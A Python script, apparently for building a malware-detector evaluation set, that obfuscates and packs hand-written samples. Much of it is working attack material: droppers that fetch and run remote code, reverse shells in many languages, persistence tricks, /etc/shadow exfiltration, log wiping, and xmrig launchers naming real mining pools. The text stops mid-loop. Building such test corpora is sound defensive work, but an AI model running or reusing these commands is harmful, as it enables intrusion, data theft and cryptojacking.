#!/usr/bin/env python3
"""Builds Vigil's real-world evaluation set from the package registries.

Usage: build.py OUT [--part main|holdout] [--tools DIR]

Malicious samples are made by the real tools attackers use, fetched from the registries
(npm: javascript-obfuscator, js-confuser, bash-obfuscate; PyPI: bashsmash; Debian: upx-ucl,
xmrig, clamav-testfiles), from inputs chosen here: real library files and harmless droppers,
reverse shells and web shells written by this script (their addresses are documentation ranges
and `.invalid` names). The clean set is real files of this machine and of the registries, chosen
to be hard. Each part uses other inputs: `main` is what the detectors are tuned on, `holdout` is
generated only after they are frozen and reported separately.

Layout: OUT/<part>/malicious/<category>/<sample>, OUT/<part>/clean/<kind>/<file>, and
OUT/<part>/manifest.json (category -> samples -> the input and the tool options that made each).
Python 3 standard library only; node, npm and apt-get do the fetching.
"""

import argparse
import hashlib
import json
import os
import random
import shutil
import subprocess
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
NPM_TOOLS = ["javascript-obfuscator@5.8.0", "js-confuser@2.1.3", "bash-obfuscate@1.2.1"]
PYPI_TOOLS = ["bashsmash==1.2"]
# xmrig is only in trixie (it is scanned, not run); upx-ucl runs here, so it comes built for
# bookworm (backports), like libucl1.
DEBIAN = ["clamav-testfiles", "xmrig", "upx-ucl/bookworm-backports", "libucl1/bookworm"]
APT_SOURCES = "".join(
    f"deb [signed-by=/usr/share/keyrings/debian-archive-keyring.gpg] http://deb.debian.org/debian {suite} main\n"
    for suite in ["trixie", "bookworm", "bookworm-backports"]
)
# Popular npm packages whose shipped (often minified) files are the hard clean JavaScript.
NPM_CLEAN = [
    "react-dom@18", "lodash@4", "jquery@3", "moment@2", "three@0.160", "d3@7", "vue@3",
    "bootstrap@5", "chart.js@4", "axios@1", "rxjs@7", "handlebars@4", "ace-builds@1",
    "pdfjs-dist@3", "monaco-editor@0.45", "core-js@3", "typescript@5", "terser@5", "webpack@5",
    "eslint@8", "crypto-js@4", "socket.io-client@4", "highlight.js@11", "mathjax@3",
]
# Debian packages of PHP applications and libraries (which call eval and base64_decode for
# honest reasons) and documentation that quotes commands.
DEBIAN_CLEAN = [
    "wordpress", "phpmyadmin", "roundcube-core", "php-phpseclib", "php-symfony-console",
    "php-guzzlehttp-psr7", "php-twig", "php-monolog", "dokuwiki", "mediawiki",
]


def run(cmd, **kw):
    return subprocess.run(cmd, check=True, **kw)


def part_of(name: str) -> str:
    """Which part an input belongs to: a stable split by the hash of its name."""
    return "main" if hashlib.sha256(name.encode()).digest()[0] % 2 == 0 else "holdout"


class Tools:
    """The registries' tools, fetched once into DIR."""

    def __init__(self, root: Path):
        self.root = root
        self.node = root / "node"
        self.py = root / "py"
        self.debs = root / "debs"
        self.debx = root / "debx"
        self.clean_npm = root / "clean-npm"

    def fetch(self):
        self.root.mkdir(parents=True, exist_ok=True)
        if not (self.node / "node_modules" / "javascript-obfuscator").exists():
            self.node.mkdir(exist_ok=True)
            run(["npm", "init", "-y"], cwd=self.node, stdout=subprocess.DEVNULL)
            run(["npm", "install", "--no-audit", "--no-fund", *NPM_TOOLS], cwd=self.node)
        if not (self.py / "bashsmash").exists():
            run([sys.executable, "-m", "pip", "install", "-q", "--target", str(self.py), *PYPI_TOOLS])
        if not (self.debx / "usr" / "bin" / "upx-ucl").exists():
            self.apt_download(DEBIAN, self.debs)
            for deb in sorted(self.debs.glob("*.deb")):
                run(["dpkg-deb", "-x", str(deb), str(self.debx)])
        if not (self.clean_npm / "node_modules").exists():
            self.clean_npm.mkdir(exist_ok=True)
            run(["npm", "init", "-y"], cwd=self.clean_npm, stdout=subprocess.DEVNULL)
            run(["npm", "install", "--no-audit", "--no-fund", "--ignore-scripts", *NPM_CLEAN],
                cwd=self.clean_npm)
        php = self.root / "php-debs"
        if not php.exists():
            self.apt_download(DEBIAN_CLEAN, php)

    def apt_download(self, packages, into: Path):
        """Downloads .deb files with a private apt configuration: nothing of the system changes."""
        apt = self.root / "apt"
        for sub in ["lists/partial", "archives/partial"]:
            (apt / sub).mkdir(parents=True, exist_ok=True)
        (apt / "sources.list").write_text(APT_SOURCES)
        options = [
            f"-oDir::Etc::SourceList={apt}/sources.list", "-oDir::Etc::SourceParts=/nonexistent",
            f"-oDir::State::Lists={apt}/lists", f"-oDir::Cache::Archives={apt}/archives",
            "-oAPT::Sandbox::User=root",
        ]
        if not any((apt / "lists").glob("*Packages*")):
            run(["apt-get", *options, "update"], stdout=subprocess.DEVNULL)
        into.mkdir(parents=True, exist_ok=True)
        for package in packages:
            # One by one: a package missing from the archive must not stop the others.
            subprocess.run(["apt-get", *options, "download", package], cwd=into,
                           stdout=subprocess.DEVNULL)

    def upx(self, args, src: Path, dst: Path) -> bool:
        env = dict(os.environ, LD_LIBRARY_PATH=str(self.debx / "usr/lib/x86_64-linux-gnu"))
        result = subprocess.run([str(self.debx / "usr/bin/upx-ucl"), "-q", *args, "-o", str(dst), str(src)],
                                env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        return result.returncode == 0 and dst.exists()

    def node_run(self, script: str, *args):
        return run(["node", "-e", script, *args], cwd=self.node, capture_output=True).stdout

    def bashsmash(self, command: str) -> str:
        env = dict(os.environ, PYTHONPATH=str(self.py))
        out = run([sys.executable, "-m", "bashsmash", command], env=env, capture_output=True)
        return out.stdout.decode()


# JavaScript obfuscation: one option family per entry, as javascript-obfuscator documents them.
JS_OBFUSCATOR_FAMILIES = {
    "default": [],
    "string-array-rc4": ["--string-array", "true", "--string-array-encoding", "rc4", "--string-array-threshold", "1"],
    "string-array-base64": ["--string-array", "true", "--string-array-encoding", "base64", "--string-array-threshold", "1"],
    "rotate-shuffle-wrappers": ["--string-array-rotate", "true", "--string-array-shuffle", "true",
                                "--string-array-wrappers-count", "2", "--string-array-wrappers-type", "function"],
    "self-defending": ["--self-defending", "true", "--compact", "true"],
    "control-flow-flattening": ["--control-flow-flattening", "true", "--control-flow-flattening-threshold", "1"],
    "dead-code": ["--dead-code-injection", "true", "--dead-code-injection-threshold", "1"],
    "preset-high": ["--options-preset", "high-obfuscation"],
    "preset-medium": ["--options-preset", "medium-obfuscation"],
    "preset-low": ["--options-preset", "low-obfuscation"],
    "hex-identifiers-split": ["--identifier-names-generator", "hexadecimal", "--split-strings", "true",
                              "--split-strings-chunk-length", "3", "--transform-object-keys", "true"],
    "unicode-escape": ["--unicode-escape-sequence", "true", "--numbers-to-expressions", "true"],
}
JS_CONFUSER_PRESETS = ["low", "medium", "high"]


def variants(forms, hosts, copies, name):
    """(name, text) of each form `copies` times, `{h}` replaced by a host taken in turn."""
    return [(name.format(i=i, j=j), form.replace("{h}", hosts[(i + j) % len(hosts)]))
            for i, form in enumerate(forms) for j in range(copies)]


def js_droppers():
    """Harmless JavaScript droppers: each fetches a script from a reserved name and runs it."""
    hosts = ["update.example.invalid", "cdn.example.invalid", "198.51.100.7", "203.0.113.9"]
    forms = [
        "const { execSync } = require('child_process');\nexecSync('curl -s http://{h}/i.sh | sh');\n",
        "require('child_process').exec('wget -qO- http://{h}/p | bash', () => {});\n",
        "const https = require('https');\nhttps.get('https://{h}/stage2.js', r => { let b = ''; r.on('data', c => b += c); r.on('end', () => eval(b)); });\n",
        "fetch('https://{h}/x.js').then(r => r.text()).then(t => new Function(t)());\n",
        "var s = new ActiveXObject('WScript.Shell');\ns.Run('powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString(\\'http://{h}/a.ps1\\')\"');\n",
        "const fs = require('fs'); const cp = require('child_process');\nrequire('http').get('http://{h}/bin', r => { const f = fs.createWriteStream('/tmp/.cache-upd'); r.pipe(f); f.on('finish', () => { fs.chmodSync('/tmp/.cache-upd', 0o755); cp.spawn('/tmp/.cache-upd', [], { detached: true }); }); });\n",
        "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = net.connect(4444, '{h}', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); });\n",
        "const os = require('os');\nconst data = JSON.stringify({ u: os.userInfo(), e: process.env });\nrequire('https').request({ host: '{h}', path: '/c', method: 'POST' }).end(data);\n",
        "var x = new XMLHttpRequest(); x.open('GET', 'http://{h}/payload.js', false); x.send(); eval(x.responseText);\n",
        "require('child_process').execSync('nohup ./xmrig -o stratum+tcp://{h}:3333 -u 4AbCdEf -p x >/dev/null 2>&1 &');\n",
    ]
    return variants(forms, hosts, 2, "dropper{i:02}-{j}.js")


def shell_droppers():
    """Harmless shell droppers and backdoors: fetch-and-run, reverse shells, persistence, miners."""
    hosts = ["update.example.invalid", "198.51.100.7", "203.0.113.9", "mirror.example.invalid"]
    forms = [
        "#!/bin/sh\ncurl -fsSL http://{h}/install.sh | sh\n",
        "#!/bin/bash\nwget -q http://{h}/kworker -O /tmp/.kworker && chmod +x /tmp/.kworker && /tmp/.kworker &\n",
        "#!/bin/bash\nbash -i >& /dev/tcp/{h}/4444 0>&1\n",
        "#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {h} 4444 > /tmp/f\n",
        "#!/bin/bash\n(crontab -l 2>/dev/null; echo '*/5 * * * * curl -s http://{h}/c.sh | bash') | crontab -\n",
        "#!/bin/bash\nmkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKx attacker@{h}' >> ~/.ssh/authorized_keys\n",
        "#!/bin/sh\ncd /dev/shm && curl -O http://{h}/xmrig && chmod +x xmrig && ./xmrig -o pool.{h}:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD --donate-level 1 -B\n",
        "#!/bin/bash\nexport HISTFILE=/dev/null; curl -s http://{h}/k | base64 -d > /tmp/k; chmod 755 /tmp/k; /tmp/k\n",
        "#!/bin/sh\npython3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"{h}\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'\n",
        "#!/bin/bash\nfor u in http://{h}/a http://{h}/b; do wget -q $u -O /var/tmp/.x && sh /var/tmp/.x; done\nhistory -c\n",
        "#!/bin/bash\necho '/tmp/.lib.so' >> /etc/ld.so.preload\nsystemctl stop auditd\n",
        "#!/bin/sh\nsocat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{h}:9001\n",
    ]
    return variants(forms, hosts, 3, "dropper{i:02}-{j}.sh")


def select(paths, part: str, count: int, seed: str):
    chosen = [p for p in sorted(paths) if part_of(str(p.name)) == part]
    random.Random(seed).shuffle(chosen)
    return chosen[:count]


class Builder:
    def __init__(self, out: Path, part: str, tools: Tools):
        self.out = out / part
        self.part = part
        self.tools = tools
        self.manifest = {}

    def add(self, category: str, name: str, data: bytes, made_from: str, how: str):
        folder = self.out / "malicious" / category
        folder.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
        self.manifest.setdefault(category, []).append({"sample": name, "input": made_from, "tool": how})

    def js_inputs(self):
        """Real library files (small npm modules) and hand-written droppers, this part's half."""
        modules = self.tools.node / "node_modules"
        real = [p for p in modules.rglob("*.js")
                if 1500 < p.stat().st_size < 40000 and ".min." not in p.name and "/test" not in str(p)]
        real = select(real, self.part, 22, "js")
        inputs = [(f"{p.parent.name}-{p.name}", p.read_text(errors="replace"), str(p.relative_to(modules))) for p in real]
        inputs += [(n, t, "hand-written dropper " + n) for n, t in js_droppers() if part_of(n) == self.part]
        return inputs

    def javascript_obfuscator(self):
        families = list(JS_OBFUSCATOR_FAMILIES)
        tmp = self.out / ".tmp"
        tmp.mkdir(parents=True, exist_ok=True)
        cli = self.tools.node / "node_modules/.bin/javascript-obfuscator"
        for i, (name, text, origin) in enumerate(self.js_inputs()):
            src = tmp / "in.js"
            src.write_text(text)
            for k in range(4):
                family = families[(i * 4 + k) % len(families)]
                dst = tmp / "out.js"
                result = subprocess.run([str(cli), str(src), "--output", str(dst), "--seed", str(i + 1),
                                         *JS_OBFUSCATOR_FAMILIES[family]], capture_output=True)
                if result.returncode == 0 and dst.exists():
                    self.add("js-obfuscator", f"{i:02}-{Path(name).stem}.{family}.js", dst.read_bytes(), origin,
                             f"javascript-obfuscator {family}")

    def js_confuser(self):
        script = ("const J=require('js-confuser');const fs=require('fs');"
                  "J.obfuscate(fs.readFileSync(process.argv[1],'utf8'),{target:'node',preset:process.argv[2]})"
                  ".then(r=>process.stdout.write(typeof r==='string'?r:r.code)).catch(e=>{console.error(e);process.exit(1)})")
        tmp = self.out / ".tmp"
        tmp.mkdir(parents=True, exist_ok=True)
        for i, (name, text, origin) in enumerate(self.js_inputs()):
            src = tmp / "in-confuser.js"
            src.write_text(text)
            presets = JS_CONFUSER_PRESETS[1:] if i % 2 else JS_CONFUSER_PRESETS
            for preset in presets:
                try:
                    out = self.tools.node_run(script, str(src), preset)
                except subprocess.CalledProcessError:
                    continue
                self.add("js-confuser", f"{i:02}-{Path(name).stem}.{preset}.js", out, origin, f"js-confuser preset {preset}")

    def shell_inputs(self):
        real = []
        for path in Path("/usr/bin").iterdir():
            try:
                if path.is_file() and not path.is_symlink() and 300 < path.stat().st_size < 20000:
                    head = path.open("rb").read(64)
                    if head.startswith(b"#!/bin/sh") or head.startswith(b"#!/bin/bash") or head.startswith(b"#! /bin/sh"):
                        real.append(path)
            except OSError:
                pass
        real = select(real, self.part, 14, "sh")
        inputs = [(p.name + ".sh", p.read_text(errors="replace"), str(p)) for p in real]
        inputs += [(n, t, "hand-written dropper " + n) for n, t in shell_droppers() if part_of(n) == self.part]
        return inputs

    def bash_obfuscate(self):
        tmp = self.out / ".tmp"
        tmp.mkdir(parents=True, exist_ok=True)
        cli = self.tools.node / "node_modules/.bin/bash-obfuscate"
        for i, (name, text, origin) in enumerate(self.shell_inputs()):
            src = tmp / "in.sh"
            src.write_text(text)
            for chunk in (["2", "5"] if i % 2 else ["3", "4", "8"]):
                dst = tmp / "out.sh"
                result = subprocess.run([str(cli), str(src), "-o", str(dst), "-c", chunk], capture_output=True)
                if result.returncode == 0 and dst.exists():
                    self.add("bash-obfuscate", f"{i:02}-{Path(name).stem}.c{chunk}.sh", dst.read_bytes(), origin,
                             f"bash-obfuscate --chunk-size {chunk}")

    def bashsmash(self):
        commands = []
        for name, text, origin in self.shell_inputs():
            if origin.startswith("hand-written"):
                lines = [line for line in text.splitlines() if line and not line.startswith("#")]
                commands.append((name, "; ".join(lines), origin))
        extra = ["id; uname -a; cat /etc/passwd", "curl -s http://198.51.100.7/x | sh",
                 "wget -qO- http://update.example.invalid/i | bash", "nc -e /bin/sh 203.0.113.9 4444",
                 "echo ssh-rsa AAAAB3Nza attacker >> /root/.ssh/authorized_keys", "rm -rf /var/log/*",
                 "chmod +s /bin/bash", "cat /etc/shadow | nc 198.51.100.7 9000",
                 "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", "crontab -r; pkill -9 -f xmrig",
                 "busybox wget http://203.0.113.9/b -O /tmp/b; sh /tmp/b", "iptables -F; setenforce 0",
                 "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm", "echo 0 > /proc/sys/kernel/randomize_va_space",
                 "tar czf - /home | curl -T - http://198.51.100.7/up", "history -c; unset HISTFILE; rm ~/.bash_history",
                 "curl -s http://update.example.invalid/k -o /dev/shm/k; chmod 700 /dev/shm/k; /dev/shm/k",
                 "systemctl disable --now auditd rsyslog", "find / -perm -4000 -type f 2>/dev/null",
                 "openssl enc -aes-256-cbc -k x -in /etc/shadow | nc 203.0.113.9 9001",
                 "docker run -v /:/mnt --rm -it alpine chroot /mnt sh", "kill -9 $(pgrep -f ossec)"]
        commands += [(f"cmd{i:02}", c, f"hand-written command {i:02}") for i, c in enumerate(extra) if part_of(f"cmd{i:02}") == self.part]
        for i, (name, command, origin) in enumerate(commands):
            for k, prefix in enumerate(["#!/bin/bash\n", "", "#!/bin/sh\n# maintenance\n"]):
                smashed = self.tools.bashsmash(command)
                self.add("bashsmash", f"{i:02}-{Path(name).stem}.{k}.sh", (prefix + smashed).encode(), origin,
                         "bashsmash" + (" with shebang" if prefix else ""))

    def char_codes(self):
        """Code built from character codes, in the forms droppers use in five languages."""
        for i, (name, text, origin) in enumerate(self.js_inputs() + self.shell_inputs()):
            if not origin.startswith("hand-written"):
                continue
            body = [line for line in text.splitlines() if line and not line.startswith("#!")]
            payload = "\n".join(body)[:600]
            codes = [ord(c) for c in payload]
            joined = ",".join(map(str, codes))
            stem = f"{i:02}-{Path(name).stem}"
            forms = {
                "apply.js": f"eval(String.fromCharCode.apply(null, [{joined}]));\n",
                "spread.js": f"var c = [{joined}];\neval(String.fromCharCode(...c));\n",
                "map.js": f"var k=[{joined}];var s=k.map(function(x){{return String.fromCharCode(x)}}).join('');new Function(s)();\n",
                "ps1": "iex ([string]::join('', ([char[]]@(" + joined + "))))\n",
                "py": f"exec(''.join(chr(c) for c in [{joined}]))\n",
                "vbs": "Execute " + " & ".join(f"Chr({c})" for c in codes[:300]) + "\n",
                "offset.js": "var o=7;eval(String.fromCharCode.apply(null,[" + ",".join(str(c + 7) for c in codes) + "].map(function(x){return x-o})));\n",
            }
            for suffix, script in forms.items():
                self.add("char-codes", f"{stem}.{suffix}", script.encode(), origin, f"char codes ({suffix})")

    def upx_packed(self):
        binaries = [p for p in Path("/usr/bin").iterdir()
                    if p.is_file() and not p.is_symlink() and 60_000 < p.stat().st_size < 3_000_000
                    and p.open("rb").read(4) == b"\x7fELF"]
        chosen = select(binaries, self.part, 40, "upx")
        tmp = self.out / ".tmp"
        tmp.mkdir(parents=True, exist_ok=True)
        made = 0
        levels = [["-1"], ["-9"], ["--lzma"], ["--best", "--no-lzma"]]
        for i, path in enumerate(chosen):
            for level in (levels[i % 4], levels[(i + 1) % 4]):
                dst = tmp / "packed"
                dst.unlink(missing_ok=True)
                if self.tools.upx(level, path, dst):
                    self.add("upx-packed", f"{path.name}.{level[0].strip('-')}", dst.read_bytes(), str(path),
                             "upx-ucl " + " ".join(level))
                    made += 1
            if made >= 60:
                break

    def clamav_testfiles(self):
        folder = self.tools.debx / "usr/share/clamav-testfiles"
        for path in sorted(folder.iterdir()):
            if part_of(path.name) != self.part and self.part == "holdout":
                continue  # every test file is in main; the hold-out gets the other half again
            containers = (".zip", ".7z", ".cab", ".arj", ".tar.gz", ".tgz", ".bz2", ".cpio", ".mbox.base64",
                          ".mbox.uu", ".mail", ".tnef", ".binhex", ".rtf", ".html", ".pdf", ".ppt", ".chm",
                          ".sis", ".szdd", ".doc")
            if "_IS" in path.name or path.name == "clam-nsis.exe":
                containers = (path.name,)  # installers: the test file is inside, compressed
            category = "clamav-containers" if path.name.endswith(containers) else "clamav-testfiles"
            self.add(category, path.name, path.read_bytes(), f"clamav-testfiles:{path.name}", "Debian clamav-testfiles")

    def miners(self):
        xmrig = self.tools.debx / "usr/bin/xmrig"
        tmp = self.out / ".tmp"
        tmp.mkdir(parents=True, exist_ok=True)
        if self.part == "main":
            self.add("miners", "xmrig", xmrig.read_bytes(), "Debian xmrig", "as shipped")
            stripped = tmp / "xmrig-stripped"
            shutil.copy(xmrig, stripped)
            run(["strip", "-s", str(stripped)])
            self.add("miners", "xmrig-stripped", stripped.read_bytes(), "Debian xmrig", "strip -s")
        for level in (["-1"], ["--lzma"]) if self.part == "main" else (["-9"], ["--best", "--no-lzma"]):
            dst = tmp / "xmrig-upx"
            dst.unlink(missing_ok=True)
            if self.tools.upx(level, xmrig, dst):
                self.add("miners", f"xmrig.upx{level[0]}", dst.read_bytes(), "Debian xmrig", "upx-ucl " + " ".join(level))
        pools = ["pool.supportxmr.com:443", "xmr.2miners.com:2222", "gulf.moneroocean.stream:10128",
                 "pool.hashvault.pro:80", "xmr-eu1.nanopool.org:14433", "monerohash.com:2222",
                 "198.51.100.7:3333", "203.0.113.9:5555", "mine.c3pool.com:13333", "xmrpool.eu:9999",
                 "pool.minexmr.example.invalid:4444", "fr.minexmr.example.invalid:443",
                 "xmr.pool.gntl.co.uk:10009", "pool.xmr.pt:3333", "xmr.f2pool.com:13531",
                 "de.monero.herominers.com:1111", "rx.unmineable.com:3333", "pool.kryptex.com:7029",
                 "192.0.2.44:14444", "198.51.100.201:7777", "sg.minexmr.example.invalid:5555",
                 "us-west.minexmr.example.invalid:443", "xmr.crypto-pool.example.invalid:3333",
                 "ca.minexmr.example.invalid:4444",
                 "xmr-us-east1.nanopool.org:14433", "xmr-asia1.nanopool.org:14433", "pool.supportxmr.com:3333", "pool.supportxmr.com:5555", "xmr.2miners.com:12222", "gulf.moneroocean.stream:20128", "pool.hashvault.pro:443", "monero.herominers.com:10191", "xmr-eu2.nanopool.org:14433", "rx.unmineable.com:443", "192.0.2.77:3333", "198.51.100.99:8080", "203.0.113.150:443", "xmr.zeropool.example.invalid:3333", "p2pool.example.invalid:3333", "pool.monero.example.invalid:9000", "mine.xmrpool.example.invalid:3333", "eu.stratum.example.invalid:4444", "us.stratum.example.invalid:4444", "asia.stratum.example.invalid:4444"]
        wallets = ["48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",
                   "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
                   "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge"]
        for i, pool in enumerate(pools):
            name = f"pool{i:02}"
            if part_of(name) != self.part:
                continue
            wallet = wallets[i % len(wallets)]
            config = {"autosave": True, "cpu": {"enabled": True, "max-threads-hint": 75},
                      "pools": [{"url": pool, "user": wallet, "pass": f"w{i}", "keepalive": True,
                                 "tls": pool.endswith(":443")}], "donate-level": 1, "background": True}
            self.add("miners", f"{name}.config.json", json.dumps(config, indent=4).encode(), f"pool {pool}", "xmrig config")
            launch = (f"#!/bin/sh\ncd /var/tmp/.x || exit\nnohup ./kswapd0 -o {pool} -u {wallet} -p x "
                      f"-k --donate-level=1 --cpu-max-threads-hint=50 >/dev/null 2>&1 &\n")
            self.add("miners", f"{name}.launch.sh", launch.encode(), f"pool {pool}", "launcher script")
            service = (f"[Unit]\nDescription=System update service\n[Service]\nExecStart=/usr/local/bin/.sysupd "
                       f"--url={pool} --user={wallet} --pass=x --coin=monero\nRestart=always\n"
                       "[Install]\nWantedBy=multi-user.target\n")
            self.add("miners", f"{name}.service", service.encode(), f"pool {pool}", "systemd unit")
            py = (f"import subprocess\nsubprocess.Popen(['/tmp/.cache/xmrig', '-o', 'stratum+tcp://{pool}', '-u', "
                  f"'{wallet}', '-p', 'x', '-B'])\n")
            self.add("miners", f"{name}.run.py", py.encode(), f"pool {pool}", "python launcher")

    def droppers(self):
        for name, text in shell_droppers() + js_droppers():
            if part_of(name) == self.part:
                self.add("droppers", name, text.encode(), "hand-written " + name, "hand-written")
        hosts = ["198.51.100.23", "update.example.invalid", "203.0.113.80", "files.example.invalid"]
        forms = {
            "ps1": "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://{h}/a.ps1')\"\n",
            "iwr.ps1": "$u='http://{h}/s.exe'; Invoke-WebRequest -Uri $u -OutFile $env:TEMP\\s.exe; Start-Process $env:TEMP\\s.exe\n",
            "bat": "certutil -urlcache -split -f http://{h}/p.exe %TEMP%\\p.exe && %TEMP%\\p.exe\n",
            "bits.bat": "bitsadmin /transfer j /download /priority high http://{h}/u.exe C:\\Users\\Public\\u.exe & start C:\\Users\\Public\\u.exe\n",
            "py": "import urllib.request\nexec(urllib.request.urlopen('http://{h}/stage.py').read())\n",
            "pl": "use LWP::Simple;\ngetstore('http://{h}/b', '/tmp/.b'); chmod 0755, '/tmp/.b'; system('/tmp/.b');\n",
            "vbs": "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", \"http://{h}/p.vbs\", False\nx.Send\nExecuteGlobal x.responseText\n",
            "rb": "require 'open-uri'\neval(URI.open('http://{h}/r.rb').read)\n",
            "php": "<?php file_put_contents('/tmp/.p', file_get_contents('http://{h}/p')); chmod('/tmp/.p', 0755); exec('/tmp/.p'); ?>\n",
            "hta": "<script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"powershell -ep bypass -c iex(iwr http://{h}/x.ps1 -UseBasicParsing)\"</script>\n",
            "wget.sh": "#!/bin/sh\nwget http://{h}/.s -O- | sh\n",
            "curl-o.sh": "#!/bin/sh\ncurl -s -o /dev/shm/.u http://{h}/u; chmod +x /dev/shm/.u; /dev/shm/.u\n",
        }
        for i, (suffix, form) in enumerate(forms.items()):
            for j, host in enumerate(hosts):
                name = f"net{i:02}-{j}.{suffix}"
                if part_of(name) == self.part:
                    self.add("droppers", name, form.replace("{h}", host).encode(), "hand-written " + suffix, "hand-written")

    def reverse_shells(self):
        forms = {
            "bash-tcp.sh": "#!/bin/bash\nbash -i >& /dev/tcp/{h}/{p} 0>&1\n",
            "sh-udp.sh": "#!/bin/sh\nsh -i >& /dev/udp/{h}/{p} 0>&1\n",
            "exec-fd.sh": "#!/bin/bash\nexec 5<>/dev/tcp/{h}/{p}; cat <&5 | while read line; do $line 2>&5 >&5; done\n",
            "nc-e.sh": "#!/bin/sh\nnc -e /bin/sh {h} {p}\n",
            "nc-c.sh": "#!/bin/sh\nnc {h} {p} -c bash\n",
            "ncat.sh": "#!/bin/sh\nncat {h} {p} -e /bin/bash\n",
            "mkfifo.sh": "#!/bin/sh\nrm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {h} {p} >/tmp/f\n",
            "socat.sh": "#!/bin/sh\nsocat TCP:{h}:{p} EXEC:/bin/sh\n",
            "telnet.sh": "#!/bin/sh\nTF=$(mktemp -u); mkfifo $TF && telnet {h} {p} 0<$TF | /bin/sh 1>$TF\n",
            "py": "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('{h}',{p}))\nos.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\nimport pty; pty.spawn('/bin/bash')\n",
            "py-subprocess.py": "import socket,subprocess\ns=socket.create_connection(('{h}',{p}))\nsubprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())\n",
            "pl": "use Socket;$i=\"{h}\";$p={p};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};\n",
            "php": "<?php $sock=fsockopen(\"{h}\",{p});exec(\"/bin/sh -i <&3 >&3 2>&3\"); ?>\n",
            "php-proc.php": "<?php $s=fsockopen('{h}',{p});$p=proc_open('/bin/sh',array(0=>$s,1=>$s,2=>$s),$pipes); ?>\n",
            "rb": "require 'socket'\nf=TCPSocket.open(\"{h}\",{p}).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)\n",
            "lua": "local s=require('socket');local t=assert(s.tcp());t:connect('{h}',{p});while true do local r,x=t:receive();local f=assert(io.popen(r,'r'));local b=assert(f:read('*a'));t:send(b);end;\n",
            "awk.sh": "#!/bin/sh\nawk 'BEGIN {s = \"/inet/tcp/0/{h}/{p}\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null\n",
            "js": "(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var client=new net.Socket();client.connect({p},'{h}',function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();\n",
            "ps1": "$client = New-Object System.Net.Sockets.TCPClient('{h}',{p});$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()\n",
            "java": "Runtime r = Runtime.getRuntime();\nProcess p = r.exec(new String[]{\"/bin/bash\",\"-c\",\"exec 5<>/dev/tcp/{h}/{p};cat <&5 | while read line; do $line 2>&5 >&5; done\"});\np.waitFor();\n",
            "go": "package main\nimport (\"net\";\"os/exec\")\nfunc main(){c,_:=net.Dial(\"tcp\",\"{h}:{p}\");cmd:=exec.Command(\"/bin/sh\");cmd.Stdin=c;cmd.Stdout=c;cmd.Stderr=c;cmd.Run()}\n",
            "zsh.sh": "#!/bin/zsh\nzmodload zsh/net/tcp && ztcp {h} {p} && zsh >&$REPLY 2>&$REPLY 0>&$REPLY\n",
            "openssl.sh": "#!/bin/sh\nmkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect {h}:{p} > /tmp/s; rm /tmp/s\n",
            "busybox.sh": "#!/bin/sh\nbusybox nc {h} {p} -e sh\n",
            "php-system.php": "<?php $c=fsockopen(\"{h}\",{p});while(!feof($c)){$cmd=fgets($c);$o=shell_exec($cmd);fwrite($c,$o);} ?>\n",
        }
        endpoints = [("198.51.100.7", 4444), ("203.0.113.9", 443), ("192.0.2.10", 9001), ("198.51.100.66", 53)]
        for i, (suffix, form) in enumerate(forms.items()):
            for j in range(4):
                name = f"rs{i:02}-{j}.{suffix}"
